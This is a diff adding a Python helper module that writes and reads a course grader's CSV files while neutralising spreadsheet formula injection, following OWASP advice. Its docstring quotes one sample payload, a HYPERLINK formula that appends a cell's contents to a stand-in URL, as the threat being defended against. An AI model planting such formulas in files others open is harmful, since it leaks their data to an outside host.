@@ -1,0 +1,74 @@
+"""Every CSV file the grader writes (grades.csv, gradescope_scores.csv),
+written and read back through one pair of helpers.
+
+Staff open these files in a spreadsheet, and a cell that starts with
+``=``, ``+``, ``-`` or ``@`` (or tab or carriage return, which some
+spreadsheets skip before such a character) is a formula there: a
+submitter named ``=HYPERLINK("http://x?"&A2, "click")`` would run in the
+instructor's gradebook. As OWASP recommends (CSV injection), every text cell
+starting with one of those characters is prefixed with a single quote, and
+``csv`` quotes every cell holding a separator or quote. A text cell that
+itself starts with a quote gets one more, so :func:`read_rows` gives back
+exactly the text written. Numbers are written as numbers (``f"{x:g}"``):
+a score of -1 stays a number, a name ``-1`` does not.
+"""
+from __future__ import annotations
+
+import csv
+import os
+from collections.abc import Iterable
+from pathlib import Path
+
+# The characters that start a formula, and the quote that marks text.
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+QUOTE = "'"
+
+
+def cell(value: object) -> str:
+    """One cell as written: a number as ``:g``, text neutralised."""
+    if isinstance(value, bool):
+        return str(value)
+    if isinstance(value, (int, float)):
+        return f"{value:g}"
+    text = "" if value is None else str(value)
+    if text.startswith(DANGEROUS) or text.startswith(QUOTE):
+        return QUOTE + text
+    return text
+
+
+def uncell(text: str) -> str:
+    """The text a cell written by :func:`cell` held."""
+    return text[1:] if text.startswith(QUOTE) else text
+
+
+def write_rows(path: Path | str, rows: Iterable[Iterable[object]]) -> None:
+    """Write ``rows`` (header included) to ``path`` atomically, every cell
+    through :func:`cell`."""
+    path = Path(path)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    tmp = path.with_name(f".{path.name}.tmp")
+    with open(tmp, "w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        for row in rows:
+            writer.writerow([cell(value) for value in row])
+    os.replace(tmp, path)
+
+
+def read_rows(path: Path | str) -> list[list[str]]:
+    """Every row of a CSV file written by :func:`write_rows`, as text."""
+    with open(path, newline="", encoding="utf-8", errors="replace") as handle:
+        return [[uncell(value) for value in row] for row in csv.reader(handle)]
+
+
+def read_dicts(path: Path | str) -> tuple[list[str], list[dict[str, str]]]:
+    """The header and the rows (as dicts) of a file from
+    :func:`write_rows`."""
+    rows = read_rows(path)
+    if not rows:
+        return [], []
+    header = rows[0]
+    return header, [dict(zip(header, row)) for row in rows[1:]]
+
+
+__all__ = ["DANGEROUS", "cell", "read_dicts", "read_rows", "uncell",
+           "write_rows"]
